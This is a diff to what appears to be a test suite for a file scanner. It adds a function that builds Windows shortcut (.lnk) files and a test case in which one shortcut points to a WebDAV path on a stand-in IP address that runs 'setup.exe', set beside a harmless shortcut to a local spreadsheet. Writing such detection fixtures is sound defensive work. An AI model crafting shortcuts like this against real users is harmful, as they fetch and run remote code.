@@ -79,6 +79,11 @@ def packed(name: str, raw: bytes) -> bytes:
     return rb"{\rtf1\ansi{\object\objemb{\*\objclass Package}{\*\objdata " + binascii.hexlify(whole) + b"}}}"
 
 
+def shortcut(target: str) -> bytes:
+    head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), 0x88).ljust(76, b"\0")
+    return head + struct.pack("<H", len(target)) + target.encode("utf-16-le") + bytes(4)
+
+
 def compiled(command: bytes) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
@@ -162,6 +167,11 @@ CASES = {
         "a.rtf",
         packed("notes.txt", b"MZ" + bytes(200)),
         packed("plan.csv", b"a;b\r\n1;2\r\n" * 9),
+    ),
+    "shortcut to the web": (
+        "a.lnk",
+        shortcut(r"\\203.0.113.5@SSL@443\DavWWWRoot\setup.exe"),
+        shortcut(r"\\fs01\commun\planning.xlsx"),
     ),
     "archive of Java": (
         "a.jar",
